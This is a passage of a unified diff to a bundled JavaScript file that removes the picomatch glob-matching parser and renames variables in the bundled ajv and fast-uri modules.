-              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
-            }
-            if (index === 0) {
-              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
-            }
-            return QMARK.repeat(chars.length);
-          }
-          if (first === ".") {
-            return DOT_LITERAL.repeat(chars.length);
-          }
-          if (first === "*") {
-            if (esc) {
-              return esc + first + (rest ? star : "");
-            }
-            return star;
-          }
-          return esc ? m : `\\${m}`;
-        });
-        if (backslashes === true) {
-          if (opts.unescape === true) {
-            output = output.replace(/\\/g, "");
-          } else {
-            output = output.replace(/\\+/g, (m) => {
-              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
-            });
-          }
-        }
-        if (output === input && opts.contains === true) {
-          state.output = input;
-          return state;
-        }
-        state.output = utils.wrapOutput(output, state, options);
-        return state;
-      }
-      while (!eos()) {
-        value = advance();
-        if (value === "\0") {
-          continue;
-        }
-        if (value === "\\") {
-          const next = peek();
-          if (next === "/" && opts.bash !== true) {
-            continue;
-          }
-          if (next === "." || next === ";") {
-            continue;
-          }
-          if (!next) {
-            value += "\\";
-            push({ type: "text", value });
-            continue;
-          }
-          const match = /^\\+/.exec(remaining());
-          let slashes = 0;
-          if (match && match[0].length > 2) {
-            slashes = match[0].length;
-            state.index += slashes;
-            if (slashes % 2 !== 0) {
-              value += "\\";
-            }
-          }
-          if (opts.unescape === true) {
-            value = advance();
-          } else {
-            value += advance();
-          }
-          if (state.brackets === 0) {
-            push({ type: "text", value });
-            continue;
-          }
-        }
-        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
-          if (opts.posix !== false && value === ":") {
-            const inner = prev.value.slice(1);
-            if (inner.includes("[")) {
-              prev.posix = true;
-              if (inner.includes(":")) {
-                const idx = prev.value.lastIndexOf("[");
-                const pre = prev.value.slice(0, idx);
-                const rest2 = prev.value.slice(idx + 2);
-                const posix = POSIX_REGEX_SOURCE[rest2];
-                if (posix) {
-                  prev.value = pre + posix;
-                  state.backtrack = true;
-                  advance();
-                  if (!bos.output && tokens.indexOf(prev) === 1) {
-                    bos.output = ONE_CHAR;
-                  }
-                  continue;
-                }
-              }
-            }
-          }
-          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
-            value = `\\${value}`;
-          }
-          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
-            value = `\\${value}`;
-          }
-          if (opts.posix === true && value === "!" && prev.value === "[") {
-            value = "^";
-          }
-          prev.value += value;
-          append({ value });
-          continue;
-        }
-        if (state.quotes === 1 && value !== '"') {
-          value = utils.escapeRegex(value);
-          prev.value += value;
-          append({ value });
-          continue;
-        }
-        if (value === '"') {
-          state.quotes = state.quotes === 1 ? 0 : 1;
-          if (opts.keepQuotes === true) {
-            push({ type: "text", value });
-          }
-          continue;
-        }
-        if (value === "(") {
-          increment("parens");
-          push({ type: "paren", value });
-          continue;
-        }
-        if (value === ")") {
-          if (state.parens === 0 && opts.strictBrackets === true) {
-            throw new SyntaxError(syntaxError("opening", "("));
-          }
-          const extglob = extglobs[extglobs.length - 1];
-          if (extglob && state.parens === extglob.parens + 1) {
-            extglobClose(extglobs.pop());
-            continue;
-          }
-          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
-          decrement("parens");
-          continue;
-        }
-        if (value === "[") {
-          if (opts.nobracket === true || !remaining().includes("]")) {
-            if (opts.nobracket !== true && opts.strictBrackets === true) {
-              throw new SyntaxError(syntaxError("closing", "]"));
-            }
-            value = `\\${value}`;
-          } else {
-            increment("brackets");
-          }
-          push({ type: "bracket", value });
-          continue;
-        }
-        if (value === "]") {
-          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
-            push({ type: "text", value, output: `\\${value}` });
-            continue;
-          }
-          if (state.brackets === 0) {
-            if (opts.strictBrackets === true) {
-              throw new SyntaxError(syntaxError("opening", "["));
-            }
-            push({ type: "text", value, output: `\\${value}` });
-            continue;
-          }
-          decrement("brackets");
-          const prevValue = prev.value.slice(1);
-          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
-            value = `/${value}`;
-          }
-          prev.value += value;
-          append({ value });
-          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
-            continue;
-          }
-          const escaped = utils.escapeRegex(prev.value);
-          state.output = state.output.slice(0, -prev.value.length);
-          if (opts.literalBrackets === true) {
-            state.output += escaped;
-            prev.value = escaped;
-            continue;
-          }
-          prev.value = `(${capture}${escaped}|${prev.value})`;
-          state.output += prev.value;
-          continue;
-        }
-        if (value === "{" && opts.nobrace !== true) {
-          increment("braces");
-          const open = {
-            type: "brace",
-            value,
-            output: "(",
-            outputIndex: state.output.length,
-            tokensIndex: state.tokens.length
-          };
-          braces.push(open);
-          push(open);
-          continue;
-        }
-        if (value === "}") {
-          const brace = braces[braces.length - 1];
-          if (opts.nobrace === true || !brace) {
-            push({ type: "text", value, output: value });
-            continue;
-          }
-          let output = ")";
-          if (brace.dots === true) {
-            const arr = tokens.slice();
-            const range = [];
-            for (let i2 = arr.length - 1; i2 >= 0; i2--) {
-              tokens.pop();
-              if (arr[i2].type === "brace") {
-                break;
-              }
-              if (arr[i2].type !== "dots") {
-                range.unshift(arr[i2].value);
-              }
-            }
-            output = expandRange(range, opts);
-            state.backtrack = true;
-          }
-          if (brace.comma !== true && brace.dots !== true) {
-            const out2 = state.output.slice(0, brace.outputIndex);
-            const toks = state.tokens.slice(brace.tokensIndex);
-            brace.value = brace.output = "\\{";
-            value = output = "\\}";
-            state.output = out2;
-            for (const t of toks) {
-              state.output += t.output || t.value;
-            }
-          }
-          push({ type: "brace", value, output });
-          decrement("braces");
-          braces.pop();
-          continue;
-        }
-        if (value === "|") {
-          if (extglobs.length > 0) {
-            extglobs[extglobs.length - 1].conditions++;
-          }
-          push({ type: "text", value });
-          continue;
-        }
-        if (value === ",") {
-          let output = value;
-          const brace = braces[braces.length - 1];
-          if (brace && stack[stack.length - 1] === "braces") {
-            brace.comma = true;
-            output = "|";
-          }
-          push({ type: "comma", value, output });
-          continue;
-        }
-        if (value === "/") {
-          if (prev.type === "dot" && state.index === state.start + 1) {
-            state.start = state.index + 1;
-            state.consumed = "";
-            state.output = "";
-            tokens.pop();
-            prev = bos;
-            continue;
-          }
-          push({ type: "slash", value, output: SLASH_LITERAL });
-          continue;
-        }
-        if (value === ".") {
-          if (state.braces > 0 && prev.type === "dot") {
-            if (prev.value === ".") prev.output = DOT_LITERAL;
-            const brace = braces[braces.length - 1];
-            prev.type = "dots";
-            prev.output += value;
-            prev.value += value;
-            brace.dots = true;
-            continue;
-          }
-          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
-            push({ type: "text", value, output: DOT_LITERAL });
-            continue;
-          }
-          push({ type: "dot", value, output: DOT_LITERAL });
-          continue;
-        }
-        if (value === "?") {
-          const isGroup = prev && prev.value === "(";
-          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
-            extglobOpen("qmark", value);
-            continue;
-          }
-          if (prev && prev.type === "paren") {
-            const next = peek();
-            let output = value;
-            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
-              output = `\\${value}`;
-            }
-            push({ type: "text", value, output });
-            continue;
-          }
-          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
-            push({ type: "qmark", value, output: QMARK_NO_DOT });
-            continue;
-          }
-          push({ type: "qmark", value, output: QMARK });
-          continue;
-        }
-        if (value === "!") {
-          if (opts.noextglob !== true && peek() === "(") {
-            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
-              extglobOpen("negate", value);
-              continue;
-            }
-          }
-          if (opts.nonegate !== true && state.index === 0) {
-            negate();
-            continue;
-          }
-        }
-        if (value === "+") {
-          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
-            extglobOpen("plus", value);
-            continue;
-          }
-          if (prev && prev.value === "(" || opts.regex === false) {
-            push({ type: "plus", value, output: PLUS_LITERAL });
-            continue;
-          }
-          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
-            push({ type: "plus", value });
-            continue;
-          }
-          push({ type: "plus", value: PLUS_LITERAL });
-          continue;
-        }
-        if (value === "@") {
-          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
-            push({ type: "at", extglob: true, value, output: "" });
-            continue;
-          }
-          push({ type: "text", value });
-          continue;
-        }
-        if (value !== "*") {
-          if (value === "$" || value === "^") {
-            value = `\\${value}`;
-          }
-          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
-          if (match) {
-            value += match[0];
-            state.index += match[0].length;
-          }
-          push({ type: "text", value });
-          continue;
-        }
-        if (prev && (prev.type === "globstar" || prev.star === true)) {
-          prev.type = "star";
-          prev.star = true;
-          prev.value += value;
-          prev.output = star;
-          state.backtrack = true;
-          state.globstar = true;
-          consume(value);
-          continue;
-        }
-        let rest = remaining();
-        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
-          extglobOpen("star", value);
-          continue;
-        }
-        if (prev.type === "star") {
-          if (opts.noglobstar === true) {
-            consume(value);
-            continue;
-          }
-          const prior = prev.prev;
-          const before = prior.prev;
-          const isStart = prior.type === "slash" || prior.type === "bos";
-          const afterStar = before && (before.type === "star" || before.type === "globstar");
-          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
-            push({ type: "star", value, output: "" });
-            continue;
-          }
-          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
-          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
-          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
-            push({ type: "star", value, output: "" });
-            continue;
-          }
-          while (rest.slice(0, 3) === "/**") {
-            const after = input[state.index + 4];
-            if (after && after !== "/") {
-              break;
-            }
-            rest = rest.slice(3);
-            consume("/**", 3);
-          }
-          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
-          if (prior.type === "bos" && eos()) {
-            prev.type = "globstar";
-            prev.value += value;
-            prev.output = globstar(opts);
-            state.output = prev.output;
-            state.globstar = true;
-            consume(value);
-            continue;
-          }
-          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
-            state.output = state.output.slice(0, -(prior.output + prev.output).length);
-            prior.output = `(?:${prior.output}`;
-            prev.type = "globstar";
-            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
-            prev.value += value;
-            state.globstar = true;
-            state.output += prior.output + prev.output;
-            consume(value);
-            continue;
-          }
-          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
-            const end = rest[1] !== void 0 ? "|$" : "";
-            state.output = state.output.slice(0, -(prior.output + prev.output).length);
-            prior.output = `(?:${prior.output}`;
-            prev.type = "globstar";
-            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
-            prev.value += value;
-            state.output += prior.output + prev.output;
-            state.globstar = true;
-            consume(value + advance());
-            push({ type: "slash", value: "/", output: "" });
-            continue;
-          }
-          if (prior.type === "bos" && rest[0] === "/") {
-            prev.type = "globstar";
-            prev.value += value;
-            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
-            state.output = prev.output;
-            state.globstar = true;
-            consume(value + advance());
-            push({ type: "slash", value: "/", output: "" });
-            continue;
-          }
-          state.output = state.output.slice(0, -prev.output.length);
-          prev.type = "globstar";
-          prev.output = globstar(opts);
-          prev.value += value;
-          state.output += prev.output;
-          state.globstar = true;
-          consume(value);
-          continue;
-        }
-        const token = { type: "star", value, output: star };
-        if (opts.bash === true) {
-          token.output = ".*?";
-          if (prev.type === "bos" || prev.type === "slash") {
-            token.output = nodot + token.output;
-          }
-          push(token);
-          continue;
-        }
-        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
-          token.output = value;
-          push(token);
-          continue;
-        }
-        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
-          if (prev.type === "dot") {
-            state.output += NO_DOT_SLASH;
-            prev.output += NO_DOT_SLASH;
-          } else if (opts.dot === true) {
-            state.output += NO_DOTS_SLASH;
-            prev.output += NO_DOTS_SLASH;
-          } else {
-            state.output += nodot;
-            prev.output += nodot;
-          }
-          if (peek() !== "*") {
-            state.output += ONE_CHAR;
-            prev.output += ONE_CHAR;
-          }
-        }
-        push(token);
-      }
-      while (state.brackets > 0) {
-        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
-        state.output = utils.escapeLast(state.output, "[");
-        decrement("brackets");
-      }
-      while (state.parens > 0) {
-        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
-        state.output = utils.escapeLast(state.output, "(");
-        decrement("parens");
-      }
-      while (state.braces > 0) {
-        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
-        state.output = utils.escapeLast(state.output, "{");
-        decrement("braces");
-      }
-      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
-        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
-      }
-      if (state.backtrack === true) {
-        state.output = "";
-        for (const token of state.tokens) {
-          state.output += token.output != null ? token.output : token.value;
-          if (token.suffix) {
-            state.output += token.suffix;
-          }
-        }
-      }
-      return state;
-    };
-    parse3.fastpaths = (input, options) => {
-      const opts = { ...options };
-      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
-      const len = input.length;
-      if (len > max) {
-        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
-      }
-      input = REPLACEMENTS[input] || input;
-      const {
-        DOT_LITERAL,
-        SLASH_LITERAL,
-        ONE_CHAR,
-        DOTS_SLASH,
-        NO_DOT,
-        NO_DOTS,
-        NO_DOTS_SLASH,
-        STAR,
-        START_ANCHOR
-      } = constants.globChars(opts.windows);
-      const nodot = opts.dot ? NO_DOTS : NO_DOT;
-      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
-      const capture = opts.capture ? "" : "?:";
-      const state = { negated: false, prefix: "" };
-      let star = opts.bash === true ? ".*?" : STAR;
-      if (opts.capture) {
-        star = `(${star})`;
-      }
-      const globstar = (opts2) => {
-        if (opts2.noglobstar === true) return star;
-        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
-      };
-      const create = (str2) => {
-        switch (str2) {
-          case "*":
-            return `${nodot}${ONE_CHAR}${star}`;
-          case ".*":
-            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
-          case "*.*":
-            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
-          case "*/*":
-            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
-          case "**":
-            return nodot + globstar(opts);
-          case "**/*":
-            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
-          case "**/*.*":
-            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
-          case "**/.*":
-            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
-          default: {
-            const match = /^(.*?)\.(\w+)$/.exec(str2);
-            if (!match) return;
-            const source2 = create(match[1]);
-            if (!source2) return;
-            return source2 + DOT_LITERAL + match[2];
-          }
-        }
-      };
-      const output = utils.removePrefix(input, state);
-      let source = create(output);
-      if (source && opts.strictSlashes !== true) {
-        source += `${SLASH_LITERAL}?`;
-      }
-      return source;
-    };
-    module2.exports = parse3;
-  }
-});
-
-// node_modules/picomatch/lib/picomatch.js
-var require_picomatch = __commonJS({
-  "node_modules/picomatch/lib/picomatch.js"(exports, module2) {
-    "use strict";
-    var scan2 = require_scan();
-    var parse3 = require_parse();
-    var utils = require_utils();
-    var constants = require_constants();
-    var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
-    var picomatch4 = (glob, options, returnState = false) => {
-      if (Array.isArray(glob)) {
-        const fns = glob.map((input) => picomatch4(input, options, returnState));
-        const arrayMatcher = (str2) => {
-          for (const isMatch of fns) {
-            const state2 = isMatch(str2);
-            if (state2) return state2;
-          }
-          return false;
-        };
-        return arrayMatcher;
-      }
-      const isState = isObject(glob) && glob.tokens && glob.input;
-      if (glob === "" || typeof glob !== "string" && !isState) {
-        throw new TypeError("Expected pattern to be a non-empty string");
-      }
-      const opts = options || {};
-      const posix = opts.windows;
-      const regex = isState ? picomatch4.compileRe(glob, options) : picomatch4.makeRe(glob, options, false, true);
-      const state = regex.state;
-      delete regex.state;
-      let isIgnored2 = () => false;
-      if (opts.ignore) {
-        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
-        isIgnored2 = picomatch4(opts.ignore, ignoreOpts, returnState);
-      }
-      const matcher = (input, returnObject = false) => {
-        const { isMatch, match, output } = picomatch4.test(input, regex, options, { glob, posix });
-        const result = { glob, state, regex, posix, input, output, match, isMatch };
-        if (typeof opts.onResult === "function") {
-          opts.onResult(result);
-        }
-        if (isMatch === false) {
-          result.isMatch = false;
-          return returnObject ? result : false;
-        }
-        if (isIgnored2(input)) {
-          if (typeof opts.onIgnore === "function") {
-            opts.onIgnore(result);
-          }
-          result.isMatch = false;
-          return returnObject ? result : false;
-        }
-        if (typeof opts.onMatch === "function") {
-          opts.onMatch(result);
-        }
-        return returnObject ? result : true;
-      };
-      if (returnState) {
-        matcher.state = state;
-      }
-      return matcher;
-    };
-    picomatch4.test = (input, regex, options, { glob, posix } = {}) => {
-      if (typeof input !== "string") {
-        throw new TypeError("Expected input to be a string");
-      }
-      if (input === "") {
-        return { isMatch: false, output: "" };
-      }
-      const opts = options || {};
-      const format2 = opts.format || (posix ? utils.toPosixSlashes : null);
-      let match = input === glob;
-      let output = match && format2 ? format2(input) : input;
-      if (match === false) {
-        output = format2 ? format2(input) : input;
-        match = output === glob;
-      }
-      if (match === false || opts.capture === true) {
-        if (opts.matchBase === true || opts.basename === true) {
-          match = picomatch4.matchBase(input, regex, options, posix);
-        } else {
-          match = regex.exec(output);
-        }
-      }
-      return { isMatch: Boolean(match), match, output };
-    };
-    picomatch4.matchBase = (input, glob, options, posix = options && options.windows) => {
-      const regex = glob instanceof RegExp ? glob : picomatch4.makeRe(glob, options);
-      return regex.test(utils.basename(input, { windows: posix }));
-    };
-    picomatch4.isMatch = (str2, patterns, options) => picomatch4(patterns, options)(str2);
-    picomatch4.parse = (pattern, options) => {
-      if (Array.isArray(pattern)) return pattern.map((p) => picomatch4.parse(p, options));
-      return parse3(pattern, { ...options, fastpaths: false });
-    };
-    picomatch4.scan = (input, options) => scan2(input, options);
-    picomatch4.compileRe = (state, options, returnOutput = false, returnState = false) => {
-      if (returnOutput === true) {
-        return state.output;
-      }
-      const opts = options || {};
-      const prepend = opts.contains ? "" : "^";
-      const append = opts.contains ? "" : "$";
-      let source = `${prepend}(?:${state.output})${append}`;
-      if (state && state.negated === true) {
-        source = `^(?!${source}).*$`;
-      }
-      const regex = picomatch4.toRegex(source, options);
-      if (returnState === true) {
-        regex.state = state;
-      }
-      return regex;
-    };
-    picomatch4.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
-      if (!input || typeof input !== "string") {
-        throw new TypeError("Expected a non-empty string");
-      }
-      let parsed = { negated: false, fastpaths: true };
-      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
-        parsed.output = parse3.fastpaths(input, options);
-      }
-      if (!parsed.output) {
-        parsed = parse3(input, options);
-      }
-      return picomatch4.compileRe(parsed, options, returnOutput, returnState);
-    };
-    picomatch4.toRegex = (source, options) => {
-      try {
-        const opts = options || {};
-        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
-      } catch (err2) {
-        if (options && options.debug === true) throw err2;
-        return /$^/;
-      }
-    };
-    picomatch4.constants = constants;
-    module2.exports = picomatch4;
-  }
-});
-
-// node_modules/picomatch/index.js
-var require_picomatch2 = __commonJS({
-  "node_modules/picomatch/index.js"(exports, module2) {
-    "use strict";
-    var pico = require_picomatch();
-    var utils = require_utils();
-    function picomatch4(glob, options, returnState = false) {
-      if (options && (options.windows === null || options.windows === void 0)) {
-        options = { ...options, windows: utils.isWindows() };
-      }
-      return pico(glob, options, returnState);
-    }
-    Object.assign(picomatch4, pico);
-    module2.exports = picomatch4;
-  }
-});
-
 // node_modules/ajv/dist/compile/codegen/code.js
 var require_code = __commonJS({
   "node_modules/ajv/dist/compile/codegen/code.js"(exports) {
@@ -3264,12 +1488,12 @@ var require_applicability = __commonJS({
     }
     exports.schemaHasRulesForType = schemaHasRulesForType;
     function shouldUseGroup(schema, group) {
-      return group.rules.some((rule2) => shouldUseRule(schema, rule2));
+      return group.rules.some((rule) => shouldUseRule(schema, rule));
     }
     exports.shouldUseGroup = shouldUseGroup;
-    function shouldUseRule(schema, rule2) {
+    function shouldUseRule(schema, rule) {
       var _a;
-      return schema[rule2.keyword] !== void 0 || ((_a = rule2.definition.implements) === null || _a === void 0 ? void 0 : _a.some((kwd) => schema[kwd] !== void 0));
+      return schema[rule.keyword] !== void 0 || ((_a = rule.definition.implements) === null || _a === void 0 ? void 0 : _a.some((kwd) => schema[kwd] !== void 0));
     }
     exports.shouldUseRule = shouldUseRule;
   }
@@ -4321,9 +2545,9 @@ var require_validate = __commonJS({
       if (useDefaults)
         (0, defaults_1.assignDefaults)(it, group.type);
       gen.block(() => {
-        for (const rule2 of group.rules) {
-          if ((0, applicability_1.shouldUseRule)(schema, rule2)) {
-            keywordCode(it, rule2.keyword, rule2.definition, group.type);
+        for (const rule of group.rules) {
+          if ((0, applicability_1.shouldUseRule)(schema, rule)) {
+            keywordCode(it, rule.keyword, rule.definition, group.type);
           }
         }
       });
@@ -4358,9 +2582,9 @@ var require_validate = __commonJS({
     function checkKeywordTypes(it, ts) {
       const rules2 = it.self.RULES.all;
       for (const keyword in rules2) {
-        const rule2 = rules2[keyword];
-        if (typeof rule2 == "object" && (0, applicability_1.shouldUseRule)(it.schema, rule2)) {
-          const { type } = rule2.definition;
+        const rule = rules2[keyword];
+        if (typeof rule == "object" && (0, applicability_1.shouldUseRule)(it.schema, rule)) {
+          const { type } = rule.definition;
           if (type.length && !type.some((t) => hasApplicableType(ts, t))) {
             strictTypesError(it, `missing type "${type.join(",")}" for keyword "${keyword}"`);
           }
@@ -4894,7 +3118,7 @@ var require_data = __commonJS({
 });
 
 // node_modules/fast-uri/lib/utils.js
-var require_utils2 = __commonJS({
+var require_utils = __commonJS({
   "node_modules/fast-uri/lib/utils.js"(exports, module2) {
     "use strict";
     var isUUID = RegExp.prototype.test.bind(/^[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}$/iu);
@@ -5431,7 +3655,7 @@ var require_utils2 = __commonJS({
 var require_schemes = __commonJS({
   "node_modules/fast-uri/lib/schemes.js"(exports, module2) {
     "use strict";
-    var { isUUID } = require_utils2();
+    var { isUUID } = require_utils();
     var URN_REG = /^([\da-z][\d\-a-z]{0,31}):((?:[\w!$'()*+,\-./:;=@]|%[\da-f]{2})+)$/iu;
     var supportedSchemeNames = (
       /** @type {const} */
@@ -5642,7 +3866,7 @@ var require_schemes = __commonJS({
 var require_fast_uri = __commonJS({
   "node_modules/fast-uri/index.js"(exports, module2) {
     "use strict";
-    var { normalizeIPv6, removeDotSegments, removeDotSegmentsRelative, recomposeAuthority, normalizePercentEncoding, normalizePathEncoding, serializePathEncoding, normalizeQueryFragmentEncoding, encodeQuery, encodeFragment, reescapeHostDelimiters, isIPv4, nonSimpleDomain } = require_utils2();
+    var { normalizeIPv6, removeDotSegments, removeDotSegmentsRelative, recomposeAuthority, normalizePercentEncoding, normalizePathEncoding, serializePathEncoding, normalizeQueryFragmentEncoding, encodeQuery, encodeFragment, reescapeHostDelimiters, isIPv4, nonSimpleDomain } = require_utils();
     var { SCHEMES, getSchemeHandler } = require_schemes();
     var VALID_SCHEME = /^[A-Za-z][A-Za-z0-9+.-]*$/u;
     var MALFORMED_SCHEME_ERROR = "URI scheme is malformed.";
@@ -6220,19 +4444,19 @@ var require_core = __commonJS({
         this.addKeyword("$async");
       }
       _addDefaultMetaSchema() {
-        const { $data, meta: meta9, schemaId } = this.opts;
+        const { $data, meta, schemaId } = this.opts;
         let _dataRefSchema = $dataRefSchema;
         if (schemaId === "id") {
           _dataRefSchema = { ...$dataRefSchema };
           _dataRefSchema.id = _dataRefSchema.$id;
           delete _dataRefSchema.$id;
         }
-        if (meta9 && $data)
+        if (meta && $data)
           this.addMetaSchema(_dataRefSchema, _dataRefSchema[schemaId], false);
       }
       defaultMeta() {
-        const { meta: meta9, schemaId } = this.opts;
-        return this.opts.defaultMeta = typeof meta9 == "object" ? meta9[schemaId] || meta9 : void 0;
+        const { meta, schemaId } = this.opts;
+        return this.opts.defaultMeta = typeof meta == "object" ? meta[schemaId] || meta : void 0;
       }
       validate(schemaKeyRef, data) {
         let v;
@@ -6252,12 +4476,12 @@ var require_core = __commonJS({
         const sch = this._addSchema(schema, _meta);
         return sch.validate || this._compileSchemaEnv(sch);
       }
-      compileAsync(schema, meta9) {
+      compileAsync(schema, meta) {
         if (typeof this.opts.loadSchema != "function") {
           throw new Error("options.loadSchema should be a function");
         }
         const { loadSchema } = this.opts;
-        return runCompileAsync.call(this, schema, meta9);
+        return runCompileAsync.call(this, schema, meta);
         async function runCompileAsync(_schema, _meta) {
           await loadMetaSchema.call(this, _schema.$schema);
           const sch = this._addSchema(_schema, _meta);
@@ -6289,7 +4513,7 @@ var require_core = __commonJS({
           if (!this.refs[ref])
             await loadMetaSchema.call(this, _schema.$schema);
           if (!this.refs[ref])
-            this.addSchema(_schema, ref, meta9);
+            this.addSchema(_schema, ref, meta);
         }
         async function _loadSchema(ref) {
           const p = this._loading[ref];
@@ -6437,17 +4661,17 @@ var require_core = __commonJS({
           return this;
         }
         keywordMetaschema.call(this, def);
-        const definition = {
+        const definition2 = {
           ...def,
           type: (0, dataType_1.getJSONTypes)(def.type),
           schemaType: (0, dataType_1.getJSONTypes)(def.schemaType)
         };
-        (0, util_1.eachItem)(keyword, definition.type.length === 0 ? (k) => addRule.call(this, k, definition) : (k) => definition.type.forEach((t) => addRule.call(this, k, definition, t)));
+        (0, util_1.eachItem)(keyword, definition2.type.length === 0 ? (k) => addRule.call(this, k, definition2) : (k) => definition2.type.forEach((t) => addRule.call(this, k, definition2, t)));
         return this;
       }
       getKeyword(keyword) {
-        const rule2 = this.RULES.all[keyword];
-        return typeof rule2 == "object" ? rule2.definition : !!rule2;
+        const rule = this.RULES.all[keyword];
+        return typeof rule == "object" ? rule.definition : !!rule;
       }
       // Remove keyword
       removeKeyword(keyword) {
@@ -6455,7 +4679,7 @@ var require_core = __commonJS({
         delete RULES.keywords[keyword];
         delete RULES.all[keyword];
         for (const group of RULES.rules) {
-          const i2 = group.rules.findIndex((rule2) => rule2.keyword === keyword);
+          const i2 = group.rules.findIndex((rule) => rule.keyword === keyword);
           if (i2 >= 0)
             group.rules.splice(i2, 1);
         }
@@ -6482,10 +4706,10 @@ var require_core = __commonJS({
           for (const seg of segments)
             keywords = keywords[seg];
           for (const key in rules2) {
-            const rule2 = rules2[key];
-            if (typeof rule2 != "object")
+            const rule = rules2[key];
+            if (typeof rule != "object")
               continue;
-            const { $data } = rule2.definition;
+            const { $data } = rule.definition;
             const schema = keywords[key];
             if ($data && schema)
               keywords[key] = schemaOrData(schema);
@@ -6506,7 +4730,7 @@ var require_core = __commonJS({
           }
         }
       }
-      _addSchema(schema, meta9, baseId, validateSchema = this.opts.validateSchema, addSchema = this.opts.addUsedSchema) {
+      _addSchema(schema, meta, baseId, validateSchema = this.opts.validateSchema, addSchema = this.opts.addUsedSchema) {
         let id;
         const { schemaId } = this.opts;
         if (typeof schema == "object") {
@@ -6522,7 +4746,7 @@ var require_core = __commonJS({
           return sch;
         baseId = (0, resolve_1.normalizeId)(id || baseId);
         const localRefs = resolve_1.getSchemaRefs.call(this, schema, baseId);
-        sch = new compile_1.SchemaEnv({ schema, schemaId, meta: meta9, baseId, localRefs });
+        sch = new compile_1.SchemaEnv({ schema, schemaId, meta, baseId, localRefs });
         this._cache.set(sch.schema, sch);
         if (addSchema && !baseId.startsWith("#")) {
           if (baseId)
@@ -6635,9 +4859,9 @@ var require_core = __commonJS({
         throw new Error('$data keyword must have "code" or "validate" function');
       }
     }
-    function addRule(keyword, definition, dataType) {
+    function addRule(keyword, definition2, dataType) {
       var _a;
-      const post = definition === null || definition === void 0 ? void 0 : definition.post;
+      const post = definition2 === null || definition2 === void 0 ? void 0 : definition2.post;
       if (dataType && post)
         throw new Error('keyword with "post" flag cannot have "type"');
       const { RULES } = this;
@@ -6647,29 +4871,29 @@ var require_core = __commonJS({
         RULES.rules.push(ruleGroup);
       }
       RULES.keywords[keyword] = true;
-      if (!definition)
+      if (!definition2)
         return;
-      const rule2 = {
+      const rule = {
         keyword,
         definition: {
-          ...definition,
-          type: (0, dataType_1.getJSONTypes)(definition.type),
-          schemaType: (0, dataType_1.getJSONTypes)(definition.schemaType)
+          ...definition2,
+          type: (0, dataType_1.getJSONTypes)(definition2.type),
+          schemaType: (0, dataType_1.getJSONTypes)(definition2.schemaType)
         }
       };
-      if (definition.before)
-        addBeforeRule.call(this, ruleGroup, rule2, definition.before);
+      if (definition2.before)
+        addBeforeRule.call(this, ruleGroup, rule, definition2.before);
       else
-        ruleGroup.rules.push(rule2);
-      RULES.all[keyword] = rule2;
